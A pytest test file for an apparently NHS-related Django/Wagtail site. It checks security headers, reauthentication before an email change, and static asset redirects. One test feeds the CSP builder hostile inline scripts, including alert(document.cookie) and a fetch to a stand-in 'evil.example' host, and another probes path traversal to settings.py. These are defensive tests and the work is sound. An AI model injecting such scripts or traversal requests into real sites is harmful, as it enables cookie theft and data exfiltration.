"""Security headers on every HTML response, the admins included."""

from __future__ import annotations

import pytest

from learning.security import _hash, admin_policy

from .factories import UserFactory

WAGTAIL_INIT = 'initDateChooser("id_when_0", {"dayOfWeekStart": 1, "format": "Y-m-d"});'


def test_admin_policy_allows_only_wagtails_exact_initialisers_by_hash():
    html = (
        f"<script>{WAGTAIL_INIT}</script>"
        "<script>alert(document.cookie)</script>"
        '<script>initDateChooser("x", {}); fetch("https://evil.example")</script>'
        '<script>initDateChooser("x", {"a": (function(){})()});</script>'
    )
    policy = admin_policy(html)
    script_src = policy.split("script-src ")[1].split(";")[0]
    assert script_src == f"'self' {_hash(WAGTAIL_INIT)}"
    assert "unsafe-inline" not in script_src and "unsafe-eval" not in script_src
    assert "object-src 'none'" in policy


@pytest.mark.django_db
def test_every_html_response_has_a_policy_without_inline_scripts(client, home_page):
    admin = UserFactory(is_superuser=True, is_staff=True)
    client.force_login(admin)
    for url in ("/", "/dashboard/", "/admin/", f"/admin/pages/{home_page.pk}/edit/"):
        response = client.get(url)
        assert response.status_code == 200, url
        policy = response["Content-Security-Policy"]
        script_src = policy.split("script-src ")[1].split(";")[0]
        assert "unsafe-inline" not in script_src, url
        assert "camera=()" in response["Permissions-Policy"]
    edit = client.get(f"/admin/pages/{home_page.pk}/edit/")
    assert "'sha256-" in edit["Content-Security-Policy"]


@pytest.mark.django_db
def test_changing_the_email_address_asks_for_the_password_again(client):
    from django.urls import reverse

    user = UserFactory()
    client.force_login(user)  # signed in, but not just now
    response = client.post(
        reverse("account_email"), {"action_add": "", "email": "new.address@example.nhs.uk"}
    )
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("account_reauthenticate"))
    from allauth.account.models import EmailAddress

    assert not EmailAddress.objects.filter(email="new.address@example.nhs.uk").exists()


@pytest.mark.django_db
def test_nhs_frontend_icons_asked_for_at_assets_are_served_from_static(client):
    response = client.get("/assets/images/nhsuk-icon-cross.svg")
    assert response.status_code == 301
    assert response["Location"] == "/static/nhsuk/assets/images/nhsuk-icon-cross.svg"
    assert client.get(response["Location"]).status_code == 200
    assert client.get("/assets/../settings.py").status_code == 404
